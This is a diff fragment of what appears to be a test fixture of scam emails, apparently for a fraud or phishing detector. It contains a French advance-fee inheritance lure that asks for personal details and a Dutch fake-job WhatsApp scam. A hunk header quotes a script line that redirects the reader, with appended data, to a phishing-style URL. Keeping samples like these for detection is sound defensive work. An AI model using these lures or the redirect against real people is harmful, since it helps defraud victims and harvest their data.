+        "Bonjour,\n\nJe suis Mme Isabelle Renaud, veuve de feu M. Jean Renaud, industriel. Je suis atteinte d'un cancer en phase terminale et mon médecin me donne quelques semaines à vivre. Je n'ai pas d'enfant.\n\nJe souhaite faire don de la somme de 1 500 000 € que mon mari a laissée sur un compte bancaire, à une personne honnête qui en fera bon usage pour les orphelins et les personnes démunies.\n\nSi vous acceptez, répondez-moi avec votre nom complet, votre adresse et votre numéro de téléphone afin que mon notaire vous contacte pour les frais de transfert.\n\nQue Dieu vous bénisse,\nMme Isabelle Renaud",
+      ),
     }),
   },
   {
@@ -1357,7 +1579,9 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       date: 'Wed, 20 Aug 2025 12:48:33 +0000',
       messageId: 'CAN3pN2xV4mR7tK1wQ9bL8cF6dH5sY0a_sD6pX@mail.gmail.com',
       ...GMAIL,
-      body: gmailBody('Hallo,\n\nWij zijn op zoek naar mensen die online willen bijverdienen. Je helpt webwinkels door producten te beoordelen en video\'s te liken. Het kost 30-60 minuten per dag en je verdient €150 tot €400 per dag, dagelijks uitbetaald.\n\nGeen ervaring nodig, alleen een telefoon.\n\nInteresse? Stuur een bericht via WhatsApp naar +31 6 12345678 of klik op https://wa.me/31612345678\n\nMet vriendelijke groet,\nSanne de Vries'),
+      body: gmailBody(
+        "Hallo,\n\nWij zijn op zoek naar mensen die online willen bijverdienen. Je helpt webwinkels door producten te beoordelen en video's te liken. Het kost 30-60 minuten per dag en je verdient €150 tot €400 per dag, dagelijks uitbetaald.\n\nGeen ervaring nodig, alleen een telefoon.\n\nInteresse? Stuur een bericht via WhatsApp naar +31 6 12345678 of klik op https://wa.me/31612345678\n\nMet vriendelijke groet,\nSanne de Vries",
+      ),
     }),
   },
 ];
